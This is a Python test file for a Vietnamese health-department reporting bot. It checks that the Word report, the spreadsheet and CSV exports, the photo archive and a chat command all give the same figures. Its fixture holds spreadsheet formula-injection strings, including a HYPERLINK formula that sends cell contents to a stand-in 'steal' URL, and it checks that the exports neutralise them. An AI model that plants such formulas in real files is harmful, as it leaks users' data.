"""The official report from the CLI: the Word draft, the spreadsheet with its totals sheet, the
photo archive, and `/thongke` — all with the same numbers, on SQLite and PostgreSQL.

The fixture: 3 reporting units under the department (one never reports), 2 kinds, 12 reports
(one withdrawn, one draft, one "Cần bổ sung"), photos stored as Loa stores them.
"""

from __future__ import annotations

import asyncio
import csv
import datetime as dt
import hashlib
import io
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import httpx
import pytest
from docx import Document
from openpyxl import load_workbook
from PIL import Image
from sqlalchemy import insert, select

from bot import app as loa_app
from bot.cli import build_parser
from bot.domain.campaigns import check_file, load
from bot.domain.officialreport import PHOTO_BUDGET, compress
from bot.domain.photos import derive
from bot.store.files import store
from bot.store.models import Officer, Report, ReportPhoto, Role, Unit
from tests.conftest import PHOTOS, ROOT, make_config, running_loa
from tests.e2e.test_reports_e2e import report_config
from tests.support.helpers import join, make_invite

NOV = dt.date(2026, 11, 1)
A, B, C = "Trung tâm Y tế Hạ Long", "Trạm Y tế phường Bãi Cháy", "Trạm Y tế phường Hà Khánh"
POSTER, SPEAKER = "Pano, áp phích, băng rôn, khẩu hiệu", "Loa truyền thanh"
HOSTILE = {  # what officers and reviewers typed, as a spreadsheet would take it
    8: ('=HYPERLINK("http://x.example/steal?x="&A2,"Xem ảnh")', "=1+2 thiếu ảnh"),
    10: ("@all phát thanh", "@SUM(1+1)"),
    11: ("+84 phát thanh ở chợ", "+1 cần thêm"),
    12: ("-5 người nghe", "-2+3 sai số"),
}
# (unit, day of November, kind, participants, state, photos)
REPORTS = [
    ("TTYTHL", 2, "poster", None, "submitted", 1),
    ("TTYTHL", 5, "loudspeaker", 40, "approved", 1),
    ("TTYTHL", 10, "poster", 10, "submitted", 1),
    ("TTYTHL", 12, "loudspeaker", 25, "submitted", 1),
    ("TTYTHL", 15, "poster", 100, "withdrawn", 1),
    ("TTYTHL", 18, "loudspeaker", 30, "draft", 1),
    ("TYTBC", 3, "poster", 15, "approved", 2),
    ("TYTBC", 6, "loudspeaker", None, "submitted", 1),
    ("TYTBC", 9, "loudspeaker", 20, "needs_more", 1),
    ("TYTBC", 16, "poster", 5, "submitted", 1),
    ("TYTBC", 19, "loudspeaker", 12, "submitted", 1),
    ("TYTBC", 20, "poster", 8, "submitted", 1),
]
# Counted (withdrawn and draft left out): unit → (reports, participants, posters, speakers).
EXPECTED = {A: (4, 75, 2, 2), B: (6, 60, 3, 3), C: (0, 0, 0, 0)}


def picture(n: int) -> bytes:
    """A real JPEG, different for each n."""
    image = Image.new("RGB", (320, 240), ((n * 40) % 256, (n * 90) % 256, (n * 150) % 256))
    image.paste((255 - (n * 40) % 256, 60, 90), (10 * n % 300, 20, 10 * n % 300 + 40, 120))
    out = io.BytesIO()
    image.save(out, "JPEG", quality=90)
    return out.getvalue()


async def seed(loa: loa_app.Loa, storage: Path) -> int:
    """The fixture; returns the campaign's id."""
    from bot.domain.units import add_unit

    now = loa.clock.now()
    async with loa.sessions() as session, session.begin():
        await add_unit(session, loa.clock, "Sở Y tế Quảng Ninh", code="SYT")
        await add_unit(session, loa.clock, A, "SYT", code="TTYTHL")
        await add_unit(session, loa.clock, B, "TTYTHL", code="TYTBC")
        await add_unit(session, loa.clock, C, "TTYTHL", code="TYTHK")
        campaign, _ = await load(session, loa.clock, check_file(
            ROOT / "messages" / "campaigns" / "mau-ba-dot-2026.toml"), "test")
        units = {u.code: u.id for u in await session.scalars(select(Unit))}
        # Nobody active in TYTBC: its reports still count (the officer has left since).
        officers = {}
        for code, status in (("TTYTHL", "active"), ("TYTBC", "stopped")):
            officers[code] = await session.scalar(insert(Officer).values(
                full_name=f"Cán bộ {code}", position="Y sĩ", unit_id=units[code],
                role=Role.OFFICER.value, status=status, created_at=now, updated_at=now
            ).returning(Officer.id))
        n = 0
        for i, (code, day, kind, people, state, photos) in enumerate(REPORTS, 1):
            description, comment = HOSTILE.get(i, (f"Hoạt động số {i}", None))
            report_id = await session.scalar(insert(Report).values(
                officer_id=officers[code], unit_id=units[code], campaign_id=campaign.id,
                phase="Đợt 3: Duy trì và tổng kết", activity=kind, description=description,
                day=dt.date(2026, 11, day), participants=people, state=state,
                review_comment=comment, created_at=now, updated_at=now).returning(Report.id))
            assert report_id == i
            for _ in range(photos):
                n += 1
                digest, path = store(storage, picture(n))
                derive(storage, path, digest)  # as the photo fetcher does once it has stored one
                await session.execute(insert(ReportPhoto).values(
                    report_id=report_id, channel="telegram", file_id=f"f{n}", unique_id=f"u{n}",
                    sha256=digest, path=path, size=len(picture(n)), attempts=1, created_at=now,
                    stored_at=now))
        # A photo still on its way from the platform: listed as such, never in the archive.
        await session.execute(insert(ReportPhoto).values(
            report_id=10, channel="telegram", file_id="late", unique_id="late", attempts=0,
            created_at=now))
        return campaign.id


@pytest.fixture
async def fixture_db(db_url, clock):
    loa = await loa_app.build(make_config(db_url), clock=clock)
    try:
        campaign_id = await seed(loa, PHOTOS)
    finally:
        await loa.close()
    return db_url, campaign_id


async def loa_command(db_url: str, capsys, *argv: str) -> str:
    """Run a `loa` command in this process as the CLI does; returns what it printed."""
    args = build_parser().parse_args(argv)
    assert await args.func(make_config(db_url), args) == 0, capsys.readouterr().err
    return capsys.readouterr().out


def docx_units(path: Path) -> dict[str, tuple[int, int]]:
    """The Word report's table by unit: name → (reports, participants)."""
    table = next(t for t in Document(str(path)).tables if t.cell(0, 1).text == "Đơn vị")
    rows = [[c.text for c in row.cells] for row in table.rows[1:]]
    return {r[1]: (int(r[2]), int(r[4])) for r in rows}


async def test_official_report_draft_has_the_header_the_numbers_and_a_photo_per_unit(
        fixture_db, capsys, tmp_path):
    db_url, campaign_id = fixture_db
    out = tmp_path / "bao-cao.docx"
    printed = await loa_command(db_url, capsys, "reports", "docx", "--campaign", str(campaign_id),
                                "--from", "2026-11-01", "--to", "2026-11-30", "--out", str(out))
    assert printed.startswith("Đã soạn báo cáo 01/KH-MAU: 10 hoạt động, 3 đơn vị, 2 ảnh")
    doc = Document(str(out))
    section = doc.sections[0]
    assert (round(section.page_width.mm), round(section.page_height.mm)) == (210, 297)
    assert (round(section.left_margin.mm), round(section.right_margin.mm),
            round(section.top_margin.mm), round(section.bottom_margin.mm)) == (30, 15, 20, 20)
    assert doc.styles["Normal"].font.name == "Times New Roman"
    header = doc.tables[0]
    left = [p for p in header.cell(0, 0).paragraphs if p.text]
    right = [p for p in header.cell(0, 1).paragraphs if p.text]
    assert [p.text for p in left] == ["SỞ Y TẾ QUẢNG NINH"]  # the department reports itself
    assert left[0].runs[0].bold
    assert [p.text for p in right] == ["CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM",
                                       "Độc lập - Tự do - Hạnh phúc"]
    assert header.cell(1, 0).text.replace(" ", "") == "Số:/BC-SYT"
    date_line = header.cell(1, 1).paragraphs[0]
    assert date_line.text.startswith("Quảng Ninh, ngày ") and date_line.runs[0].italic
    texts = [p.text for p in doc.paragraphs]
    title = texts.index("BÁO CÁO")
    assert texts[title + 1] == "Kết quả thực hiện Kế hoạch số 01/KH-MAU ngày 05/01/2026 của Sở Y tế (mẫu)"
    for heading in ("I. KẾ HOẠCH VÀ THỜI GIAN BÁO CÁO", "II. KẾT QUẢ THỰC HIỆN",
                    "III. ĐÁNH GIÁ CHUNG VÀ ĐỀ XUẤT", "PHỤ LỤC"):
        assert heading in texts
    assert f"- {POSTER}: 5 hoạt động, 38 lượt người tham gia;" in texts
    assert f"- {SPEAKER}: 5 hoạt động, 97 lượt người tham gia;" in texts
    assert f"3. Đơn vị chưa báo cáo: {C}." in texts
    assert texts.count("[Văn phòng bổ sung nội dung này trước khi trình ký]") == 3
    assert docx_units(out) == {**{u: v[:2] for u, v in EXPECTED.items()}, "Tổng cộng": (10, 135)}
    table = next(t for t in doc.tables if t.cell(0, 1).text == "Đơn vị")
    quota = {row.cells[1].text: row.cells[5].text for row in table.rows[1:]}
    assert quota[A] == (f"Bài viết trên cổng/trang thông tin điện tử: 0/1 (tháng 11/2026)\n"
                        f"{POSTER}: 2/2 (quý 4/2026)")  # each quota in its own period
    signature = next(t for t in doc.tables if t.cell(0, 0).text.startswith("Nơi nhận:"))
    assert "[CHỨC VỤ NGƯỜI KÝ]" in signature.cell(0, 1).text

    appendix = doc.tables[-1]
    captions = [p.text for row in appendix.rows for cell in row.cells for p in cell.paragraphs
                if p.text]
    # B's photo is from its report reviewed "Đạt" (3/11), not its most recent one.
    assert captions == [f"Ảnh 1. {A} — 05/11/2026 — {SPEAKER}", f"Ảnh 2. {B} — 03/11/2026 — {POSTER}"]
    pictures = [r for r in doc.part.rels.values() if r.reltype.endswith("/image")]
    assert len(pictures) == 2
    for rel in pictures:
        Image.open(io.BytesIO(rel.target_part.blob)).verify()

    # A centre reporting for itself and its stations: its parent above it, its own code.
    await loa_command(db_url, capsys, "reports", "docx", "--campaign", "01/KH-MAU", "--unit",
                      "TTYTHL", "--out", str(out))
    header = Document(str(out)).tables[0]
    assert [p.text for p in header.cell(0, 0).paragraphs if p.text] == [
        "SỞ Y TẾ QUẢNG NINH", "TRUNG TÂM Y TẾ HẠ LONG"]
    assert header.cell(1, 0).text.replace(" ", "") == "Số:/BC-TTYTHL"
    assert header.cell(1, 1).text.startswith("Hạ Long, ngày ")


async def test_spreadsheet_totals_sheet_equals_the_word_report_table(fixture_db, capsys, tmp_path):
    db_url, _ = fixture_db
    window = ("--from", "2026-11-01", "--to", "2026-11-30")
    await loa_command(db_url, capsys, "reports", "docx", "--campaign", "01/KH-MAU", *window,
                      "--out", str(tmp_path / "r.docx"))
    xlsx = tmp_path / "r.xlsx"
    printed = await loa_command(db_url, capsys, "reports", "export", "--format", "xlsx",
                                "--campaign", "01/kh-mau", *window, "--out", str(xlsx))
    assert printed.strip() == f"Đã xuất 11 báo cáo vào {xlsx}"  # the draft is left out
    book = load_workbook(xlsx)
    sheet, summary = book["Báo cáo hoạt động"], book["Tổng hợp"]
    rows = list(summary.iter_rows(values_only=True))
    head = rows[0]
    assert head[:4] == ("STT", "Đơn vị", "Số báo cáo", "Số người tham gia")
    by_unit = {r[1]: r for r in rows[1:] if r[1]}
    assert {u: (r[2], r[3]) for u, r in by_unit.items() if u in EXPECTED or u == "Tổng cộng"} \
        == docx_units(tmp_path / "r.docx")
    for unit, (_, _, posters, speakers) in EXPECTED.items():
        assert by_unit[unit][head.index(POSTER)] == posters
        assert by_unit[unit][head.index(SPEAKER)] == speakers
    kinds = {r[1]: (r[2], r[3]) for r in rows if r[0] is not None and r[1] in (POSTER, SPEAKER)}
    assert kinds == {POSTER: (5, 38), SPEAKER: (5, 97)}

    # A sheet people can work with: real dates, filters, a frozen header, links.
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref.startswith("A1:")
    header = [c.value for c in sheet[1]]
    first = {h: c for h, c in zip(header, sheet[2], strict=True)}
    assert first["Ngày hoạt động"].value == dt.datetime(2026, 11, 2)
    assert first["Ngày hoạt động"].is_date and first["Gửi lúc"].is_date
    assert first["Chiến dịch"].value == "01/KH-MAU"
    assert first["Ảnh 1"].hyperlink.target == first["Ảnh 1"].value
    assert first["Ảnh 1"].value.startswith("anh/TTYTHL/2026-11-02_poster_1_1.")


async def test_photo_archive_lists_every_photo_with_the_stored_bytes(fixture_db, capsys, tmp_path):
    db_url, _ = fixture_db
    out = tmp_path / "anh.zip"
    printed = await loa_command(db_url, capsys, "reports", "photos", "--format", "zip",
                                "--out", str(out))
    assert printed.strip() == f"Đã xuất 12 ảnh của 11 báo cáo vào {out}"
    async with loa_app_session(db_url) as session:
        photos = {p.id: p for p in await session.scalars(select(ReportPhoto))}
        drafts = {r.id for r in await session.scalars(select(Report).where(Report.state == "draft"))}
    with zipfile.ZipFile(out) as archive:
        with archive.open("anh/index.csv") as raw:
            index = list(csv.DictReader(io.TextIOWrapper(raw, encoding="utf-8-sig")))
        names = set(archive.namelist())
        expected = [p for p in photos.values() if p.report_id not in drafts]
        assert len(index) == len(expected) == 13
        by_hash = {}
        for line in index:
            if line["Tệp"] == "(ảnh chưa tải về)":
                assert line["Mã báo cáo"] == "10"
                continue
            name = f"anh/{line['Tệp']}"
            assert name in names and name.isascii()
            assert name.split("/")[1] == line["Mã đơn vị"]
            data = archive.read(name)
            assert hashlib.sha256(data).hexdigest() == line["SHA-256"]
            by_hash[line["SHA-256"]] = data
    for p in expected:
        if p.path:
            assert by_hash[p.sha256] == (PHOTOS / p.path).read_bytes()


def loa_app_session(db_url: str):
    import contextlib

    @contextlib.asynccontextmanager
    async def opened():
        loa = await loa_app.build(make_config(db_url), migrate=False)
        try:
            async with loa.sessions() as session:
                yield session
        finally:
            await loa.close()

    return opened()


async def test_what_users_wrote_opens_as_text_in_xlsx_and_csv(fixture_db, capsys, tmp_path):
    db_url, _ = fixture_db
    xlsx, table = tmp_path / "r.xlsx", tmp_path / "r.csv"
    await loa_command(db_url, capsys, "reports", "export", "--format", "xlsx", "--out", str(xlsx))
    await loa_command(db_url, capsys, "reports", "export", "--format", "csv", "--out", str(table))
    sheet = load_workbook(xlsx)["Báo cáo hoạt động"]
    header = [c.value for c in sheet[1]]
    cells = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    for report_id, (description, comment) in HOSTILE.items():
        for column, value in (("Mô tả", description), ("Nhận xét", comment)):
            cell = cells[report_id][header.index(column)]
            assert (cell.value, cell.data_type) == (value, "s")
    with table.open(encoding="utf-8-sig") as f:
        rows = {r["Mã báo cáo"]: r for r in csv.DictReader(f)}
    for report_id, (description, comment) in HOSTILE.items():
        assert rows[str(report_id)]["Mô tả"] == "'" + description
        assert rows[str(report_id)]["Nhận xét"] == "'" + comment
    assert rows["2"]["Số người tham gia"] == "40"  # numbers stay numbers


def test_any_photo_shrinks_to_the_budget_that_keeps_60_under_10_mb(tmp_path):
    noise = Image.effect_noise((4000, 3000), 120).convert("RGB")  # the worst case for JPEG
    path = tmp_path / "big.png"
    noise.save(path)
    small = compress(path)
    assert small is not None and len(small) <= PHOTO_BUDGET
    assert 60 * PHOTO_BUDGET < 10 * 1024 * 1024 - 500 * 1024  # room for the text and tables
    (tmp_path / "broken.jpg").write_bytes(b"\xff\xd8 not really")
    assert compress(tmp_path / "broken.jpg") is None


async def test_thongke_agrees_with_the_export(db_url, fake_server, tg, clock, tmp_path, capsys):
    config = report_config(db_url, fake_server, tmp_path)
    async with running_loa(config, clock) as loa:
        await seed(loa, config.storage_dir)
        admin = await join(tg, 4503, await make_invite(loa, "SYT", Role.ADMIN), "Mai Quản Trị",
                           "Chuyên viên")
        await admin.receive_one()
        await admin.send("/thongke")
        text = (await admin.receive_one())["text"]
    # This month so far (1–23/11): the same counted reports as the spreadsheet's totals.
    xlsx = tmp_path / "r.xlsx"
    args = build_parser().parse_args(["reports", "export", "--from", "2026-11-01", "--to", "2026-11-23",
                                 "--out", str(xlsx)])
    assert await args.func(config, args) == 0
    rows = list(load_workbook(xlsx)["Tổng hợp"].iter_rows(values_only=True))
    totals = {r[1]: r[2] for r in rows[1:] if r[1] in (A, B, C, "Tổng cộng")}
    assert totals == {A: 4, B: 6, C: 0, "Tổng cộng": 10}
    assert f"Tháng này: {totals['Tổng cộng']}" in text
    assert "Đợt 3: Duy trì và tổng kết: 10" in text
    for unit in (A, B, C):
        assert f"• {unit}: " in text and text.split(f"• {unit}: ")[1].split(" / ")[1] == str(
            totals[unit])
    assert f"Đơn vị chưa có báo cáo tháng này: {C}" in text
    assert "Sở Y tế Quảng Ninh:" not in text  # the department receives reports


@pytest.mark.skipif(shutil.which("libreoffice") is None, reason="LibreOffice is not installed")
async def test_the_word_draft_converts_to_pdf_with_libreoffice(fixture_db, capsys, tmp_path):
    db_url, campaign_id = fixture_db
    out = tmp_path / "bao-cao.docx"
    await loa_command(db_url, capsys, "reports", "docx", "--campaign", str(campaign_id),
                      "--from", "2026-11-01", "--to", "2026-11-30", "--out", str(out))
    done = await asyncio.to_thread(subprocess.run, ["libreoffice", "--headless", f"-env:UserInstallation=file://{tmp_path}/lo",
                           "--convert-to", "pdf", "--outdir", str(tmp_path), str(out)],
                          capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    pdf = (tmp_path / "bao-cao.pdf").read_bytes()
    pages = re.findall(rb"/Type\s*/Page[^s]", pdf)
    assert pdf.startswith(b"%PDF") and len(pages) >= 2  # the report, then the appendix


async def test_admin_gets_the_word_draft_in_the_chat_after_one_tap(db_url, fake_server, tg, clock,
                                                                   tmp_path):
    config = report_config(db_url, fake_server, tmp_path)
    async with running_loa(config, clock) as loa:
        await seed(loa, config.storage_dir)
        async with loa.sessions() as session, session.begin():  # a second plan runs today too
            await load(session, loa.clock, check_file(
                ROOT / "messages" / "campaigns" / "langson-72-nqtw-2025.toml"), "test")
        admin = await join(tg, 4503, await make_invite(loa, "SYT", Role.ADMIN), "Mai Quản Trị",
                           "Chuyên viên")
        await admin.receive_one()
        await admin.send("/baocaotonghop")
        pick = await admin.receive_one()
        assert pick["text"] == "Đang có nhiều kế hoạch. Soạn báo cáo cho kế hoạch nào?"
        label = next(b["text"] for row in pick["buttons"] for b in row
                     if b["text"].startswith("01/KH-MAU"))
        await admin.press_label(pick, label)
        _, sent = await admin.receive(2)
        # "typing…" was shown while the document was built.
        assert {"chat_id": 4503, "action": "typing"} in (await tg.state())["chat_actions"]
        officer = await tg.user(4504)
        await officer.send("/baocaotonghop")
        assert (await officer.receive_one())["text"] == "Lệnh này chỉ dành cho quản trị viên."
    assert sent["method"] == "sendDocument"
    assert sent["document"]["file_name"] == "bao-cao-01-KH-MAU-20261123.docx"
    assert sent["caption"].startswith("📄 Dự thảo báo cáo kết quả thực hiện Kế hoạch số 01/KH-MAU "
                                      "(05/01/2026 – 23/11/2026): 10 hoạt động do 2/3 đơn vị báo cáo")
    async with httpx.AsyncClient() as http:
        got = await http.get(f"{fake_server.url}/file/bot{fake_server.token}/"
                             f"{sent['document']['path']}")
    path = tmp_path / "got.docx"
    path.write_bytes(got.content)
    assert docx_units(path) == {**{u: v[:2] for u, v in EXPECTED.items()}, "Tổng cộng": (10, 135)}
    kept = tmp_path / "exports" / "bao-cao-01-KH-MAU-20261123.docx"
    assert kept.read_bytes() == got.content


async def test_a_channel_without_documents_says_where_the_draft_is(db_url, clock, tmp_path):
    from bot.channels import Capabilities
    from bot.channels.memory import MemoryChannel
    from bot.core.events import CommandIn, TextOut
    from bot.store.models import Identity

    config = make_config(db_url, LOA_STORAGE_DIR=str(tmp_path / "photos"))
    loa = await loa_app.build(config, clock=clock)
    channel = MemoryChannel(name="zalo", caps=Capabilities(buttons=False, edits=False,
                                                           max_text=2000, max_caption=2000))
    loa.add_channel(channel)
    try:
        await seed(loa, config.storage_dir)
        now = clock.now()
        async with loa.sessions() as session, session.begin():
            admin = await session.scalar(insert(Officer).values(
                full_name="Mai Quản Trị", role=Role.ADMIN.value, status="active",
                created_at=now, updated_at=now).returning(Officer.id))
            await session.execute(insert(Identity).values(
                channel="zalo", external_id="a1", chat_id="a1", officer_id=admin, menu=[],
                created_at=now))
        await loa.dispatcher.handle(CommandIn(channel="zalo", update_id="1", user_id="a1",
                                              chat_id="a1", name="baocaotonghop",
                                              args=("01/kh-mau",)))
    finally:
        await loa.close()
    (_, reply), = channel.sent
    assert isinstance(reply, TextOut)
    where = tmp_path / "exports" / "bao-cao-01-KH-MAU-20261123.docx"
    assert reply.text.endswith(f"Tệp đã soạn xong, lưu tại: {where}")
    assert docx_units(where)["Tổng cộng"] == (10, 135)
